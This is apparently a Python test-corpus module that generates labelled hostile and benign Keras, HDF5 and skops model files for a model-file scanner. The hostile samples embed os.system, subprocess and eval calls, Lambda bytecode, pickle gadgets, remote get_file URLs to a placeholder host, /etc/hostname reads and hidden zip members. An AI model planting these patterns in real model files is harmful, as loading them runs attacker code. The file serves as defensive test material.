"""Keras models in its three formats, and skops models: JSON that names classes for a loader to make."""

import base64
import json
import marshal
import struct
from collections.abc import Iterator
from typing import Any

from tests.corpus import hdf5
from tests.corpus.arrays import FLOATS, OBJECT, npy
from tests.corpus.gadgets import SYSTEM
from tests.corpus.hdf5 import Dataset, External, Group, Soft
from tests.corpus.hostile_pickles import reduced_2, reduced_4
from tests.corpus.sample import CODE, COMMAND, HOST, Sample, benign, hostile
from tests.corpus.zips import Ending, Member, zip_of, zipped

BAD = reduced_4(SYSTEM)
Config = dict[str, Any]


def layer(kind: str, config: Config, module: str = "keras.layers", registered: str | None = None) -> Config:
    return {"module": module, "class_name": kind, "config": config, "registered_name": registered}


def _value(kind: str, config: Config | None = None, module: str = "keras.initializers") -> Config:
    return {"module": module, "class_name": kind, "config": config or {}, "registered_name": None}


INPUT = layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_layer"})
DENSE = layer(
    "Dense",
    {
        "name": "dense",
        "trainable": True,
        "dtype": _value("DTypePolicy", {"name": "float32"}, "keras"),
        "units": 2,
        "activation": "relu",
        "use_bias": True,
        "kernel_initializer": _value("GlorotUniform", {"seed": None}),
        "bias_initializer": _value("Zeros"),
    },
)
NORMAL = layer("BatchNormalization", {"name": "batch_normalization", "momentum": 0.99, "epsilon": 0.001})


def model(*layers: Config, kind: str = "Sequential", module: str = "keras", **more: Any) -> Config:
    config = {"name": "sequential", "trainable": True, "dtype": "float32", "layers": list(layers)}
    compiled = {
        "optimizer": "adam",
        "loss": "sparse_categorical_crossentropy",
        "metrics": ["accuracy"],
        "jit_compile": False,
    }
    built = {"input_shape": [None, 4]}
    return {
        "module": module,
        "class_name": kind,
        "config": config,
        "registered_name": None,
        "build_config": built,
        "compile_config": compiled,
    } | more


WEIGHTS = hdf5.old(
    Group({"layers": Group({"dense": Group({"vars": Group({"0": Dataset(bytes(32)), "1": Dataset(bytes(8))})})})})
)
METADATA = json.dumps({"keras_version": "3.9.0", "date_saved": "2025-03-01@12:00:00"}).encode()


def keras(config: Config, weights: bytes = WEIGHTS, **more: bytes) -> bytes:
    """The v3 format: a zip of JSON and HDF5."""
    return zip_of(
        {"metadata.json": METADATA, "config.json": json.dumps(config).encode(), "model.weights.h5": weights} | more, 0
    )


def legacy(config: Config, *, layout: Any = hdf5.old, **members: Any) -> bytes:
    """The whole model in HDF5."""
    weights = Group(
        {"dense": Group({"kernel:0": Dataset(bytes(32))}, {"weight_names": b"dense/kernel:0"})},
        {"layer_names": b"dense", "backend": b"tensorflow"},
    )
    attributes = {"keras_version": b"2.15.0", "backend": b"tensorflow", "model_config": json.dumps(config).encode()}
    out: bytes = layout(Group({"model_weights": weights} | members, attributes))
    return out


def _bytecode() -> str:
    return base64.b64encode(marshal.dumps(compile(CODE, "<lambda>", "eval"))).decode()


LAMBDA = layer(
    "Lambda",
    {
        "name": "lambda",
        "function": {"class_name": "__lambda__", "config": {"code": _bytecode(), "defaults": None, "closure": None}},
    },
)
OLD_LAMBDA = {
    "class_name": "Lambda",
    "config": {"name": "lambda", "function": [_bytecode(), None, None], "function_type": "lambda", "module": "__main__"},
}


def _hostile_layers() -> dict[str, Config]:
    def called(module: str, name: str, *arguments: Any) -> Config:
        function = {"module": module, "class_name": "function", "config": name, "registered_name": name}
        node = {"args": list(arguments), "kwargs": {}}
        return layer("Lambda", {"name": "x", "function": function, "arguments": {}}) | {"inbound_nodes": [node]}

    nested = model(layer("Sequential", {"name": "inner", "layers": [model(LAMBDA)]}, "keras"))
    return {
        "lambda": LAMBDA,
        "lambda-old": OLD_LAMBDA,
        "lambda-nested": layer("Sequential", nested["config"], "keras"),
        "lambda-in-wrapper": layer("TimeDistributed", {"name": "t", "layer": LAMBDA}),
        "lambda-in-bidirectional": layer("Bidirectional", {"name": "b", "layer": layer("RNN", {"cell": LAMBDA})}),
        "os-system": called("os", "system", COMMAND),
        "subprocess": called("subprocess", "run", ["echo"]),
        "builtins-eval": called("builtins", "eval", CODE),
        "class-of-os": layer("system", {"command": COMMAND}, "os"),
        "get-file": called("keras.utils", "get_file", "x", f"http://{HOST}/x"),
        "get-file-internal": called("keras.src.utils.file_utils", "get_file", "x", f"http://{HOST}/x"),
        "load-model": called("keras.models", "load_model", "../x.keras"),
        "torch-module": layer("TorchModuleWrapper", {"name": "t", "module": base64.b64encode(BAD).decode()}),
        "tf-op": layer("TFOpLambda", {"name": "t", "function": "io.read_file"}),
        "activation": layer(
            "Dense",
            {
                "name": "d",
                "units": 1,
                "activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"},
            },
        ),
        "initializer": layer(
            "Dense", {"name": "d", "kernel_initializer": _value("Popen", {"args": ["echo"]}, "subprocess")}
        ),
        "vocabulary-file": layer("StringLookup", {"name": "s", "vocabulary": "/etc/hostname"}),
        "vocabulary-url": layer("TextVectorization", {"name": "s", "vocabulary": f"http://{HOST}/x"}),
        "registered-as-os": layer("X", {"name": "x"}, "os", "os>system"),
        "lambda-as-activation": layer("Dense", {"units": 1, "activation": LAMBDA["config"]["function"]}),
        "custom-module": layer("Loader", {"name": "l"}, "budmodel_corpus.layers", "Custom>Loader"),
        "unknown-lambda-spelling": layer("keras.layers.Lambda", LAMBDA["config"], "builtins"),
    }


def samples() -> Iterator[Sample]:
    why = "CVE-2024-3660, CVE-2025-1550, CVE-2025-8747, CVE-2025-9905, CVE-2025-9906, CVE-2025-49655, CVE-2025-12058"
    for what, bad in _hostile_layers().items():
        config = model(INPUT, DENSE, bad)
        yield from hostile("keras-v3", why, {f"{what}/model.keras": keras(config)})
        yield from hostile("keras-h5", why, {f"{what}/model.h5": legacy(config)})
        if what.startswith("lambda"):
            yield from hostile("keras-h5", why, {f"{what}-latest/model.hdf5": legacy(config, layout=hdf5.new)})
            yield from hostile("keras-json", why, {f"{what}/model.json": json.dumps(config)})
    yield from hostile("keras-v3", why, _hostile_archives())
    yield from hostile("hdf5", "CVE-2026-1669 and links that leave the file", _hostile_hdf5())
    good = model(INPUT, DENSE, NORMAL)
    yield from benign("keras-v3", "model.save('model.keras')", {"dense/model.keras": keras(good)})
    yield from benign(
        "keras-h5",
        "model.save('model.h5')",
        {"dense/model.h5": legacy(good), "latest/model.h5": legacy(good, layout=hdf5.new)},
    )
    yield from benign("keras-json", "model.to_json()", {"dense/model.json": json.dumps(good)})
    yield from benign(
        "hdf5",
        "weights",
        {
            "weights/model.weights.h5": WEIGHTS,
            "soft-link/data.h5": hdf5.old(Group({"a": Dataset(bytes(8)), "b": Soft("/a")})),
        },
    )
    yield from hostile("skops", "CVE-2025-54412, CVE-2025-54413, CVE-2025-54886", _hostile_skops())
    yield from benign("skops", "skops.io.dump", {"logistic/model.skops": skops(LOGISTIC)})


def _hostile_archives() -> dict[str, bytes]:
    good = model(INPUT, DENSE)
    compiled = model(
        INPUT,
        DENSE,
        compile_config={
            "optimizer": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
        },
    )
    config = json.dumps(good).encode()
    return {
        "compile-config/model.keras": keras(compiled),
        "model-class/model.keras": keras(model(INPUT, kind="Popen", module="subprocess")),
        "pickle-beside/model.keras": keras(good, **{"assets/x.pkl": BAD}),
        "weights-pickle/model.keras": keras(good, BAD),
        "weights-npz/model.keras": keras(good, **{"model.weights.npz": zip_of({"x.npy": npy(OBJECT, BAD)})}),
        "weights-external/model.keras": keras(good, hdf5.old(Group({"d": Dataset(bytes(8), "/etc/hostname")}))),
        "two-configs/model.keras": zipped(
            [
                Member("config.json", config),
                Member("config.json", json.dumps(model(INPUT, LAMBDA)).encode()),
                Member("model.weights.h5", WEIGHTS),
            ]
        ),
        "hidden-config/model.keras": zipped(
            [
                Member("config.json", config),
                Member("model.weights.h5", WEIGHTS),
                Member("config.json", json.dumps(model(LAMBDA)).encode(), in_central=False),
            ]
        ),
        "lambda-as-loss/model.keras": keras(model(INPUT, DENSE, compile_config={"loss": LAMBDA["config"]["function"]})),
        "asset-parent/model.keras": zipped(
            [Member("config.json", config), Member("model.weights.h5", WEIGHTS), Member("assets/../../x", b"x")]
        ),
        "pickle-after/model.keras": zipped(
            [Member("config.json", config), Member("model.weights.h5", WEIGHTS)], Ending(after=BAD)
        ),
        "renamed/model.bin": keras(model(INPUT, LAMBDA)),
    }


def _hostile_hdf5() -> dict[str, bytes]:
    plain = hdf5.old(Group({"a": Dataset(bytes(8))}))
    return {
        "external-data/data.h5": hdf5.old(Group({"d": Dataset(bytes(16), "/etc/hostname")})),
        "external-parent/data.h5": hdf5.old(Group({"d": Dataset(bytes(16), "../../x")})),
        "external-link/data.h5": hdf5.new(Group({"d": External("/etc/corpus.h5", "/a")})),
        "external-link-nested/data.h5": hdf5.new(Group({"g": Group({"d": External("../corpus.h5", "/a")})})),
        "pickle-after/data.h5": plain + BAD,
        "pickle-before/data.h5": BAD.ljust(512, b"\0") + plain,
        "pickle-in-attribute/data.h5": hdf5.old(Group({"a": Dataset(bytes(8))}, {"obj": reduced_2(SYSTEM)})),
        "truncated/data.h5": plain[:-40],
        "end-lies/data.h5": plain[:40] + struct.pack("<Q", 64) + plain[48:],
        "address-lies/data.h5": plain[:64] + struct.pack("<Q", 1 << 40) + plain[72:],
        "is-a-pickle/data.h5": BAD,
    }


def _node(value: Any, number: int) -> Config:
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
        "__id__": number,
    }


def _object(module: str, name: str, content: Config, loader: str = "ObjectNode") -> Config:
    return {"__class__": name, "__module__": module, "__loader__": loader, "content": content, "__id__": 90}


def _items(content: Config) -> Config:
    kinds = [{"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode", "__id__": 92} for _ in content]
    types = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": kinds, "__id__": 93}
    return {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": content,
        "key_types": types,
        "__id__": 91,
    }


COEFFICIENTS = {
    "__class__": "ndarray",
    "__module__": "numpy",
    "__loader__": "NdArrayNode",
    "type": "numpy",
    "file": "7.npy",
    "__id__": 7,
}
LOGISTIC = _object(
    "sklearn.linear_model._logistic",
    "LogisticRegression",
    _items({"C": _node(1.0, 1), "solver": _node("lbfgs", 2), "coef_": COEFFICIENTS}),
)


def skops(root: Config, **more: bytes) -> bytes:
    schema = json.dumps(root | {"protocol": 2, "_skops_version": "0.13.0"}, indent=2).encode()
    return zip_of({"7.npy": FLOATS, "schema.json": schema} | more, 0)


def _hostile_skops() -> dict[str, bytes]:
    def function(module: str, name: str) -> Config:
        return {
            "__class__": "function",
            "__module__": "builtins",
            "__loader__": "FunctionNode",
            "content": f"{module}.{name}",
            "__id__": 5,
        } | {"content": {"module_path": module, "function": name}}

    method = {
        "__class__": "method",
        "__module__": "builtins",
        "__loader__": "MethodNode",
        "content": {"func": "__globals__", "obj": LOGISTIC},
        "__id__": 6,
    }
    operator = _object("operator", "call", {"attrs": function("os", "system")}, "OperatorFuncNode")
    typed = {"__class__": "system", "__module__": "os", "__loader__": "TypeNode", "__id__": 8}
    return {
        "function/model.skops": skops(_items({"f": function("os", "system")})),
        "method/model.skops": skops(_items({"m": method})),
        "operator/model.skops": skops(operator),
        "type/model.skops": skops(_items({"t": typed})),
        "object/model.skops": skops(_object("subprocess", "Popen", _items({"args": _node("echo", 1)}))),
        "reduce/model.skops": skops(_object("os", "system", _items({"x": _node(COMMAND, 1)}), "ReduceNode")),
        "unknown-loader/model.skops": skops(_object("numpy", "ndarray", _items({}), "CorpusNode")),
        "object-array/model.skops": skops(LOGISTIC, **{"8.npy": npy(OBJECT, BAD)}),
        "pickle-beside/model.skops": skops(LOGISTIC, **{"x.pkl": BAD}),
        "is-a-pickle/model.skops": BAD,
    }
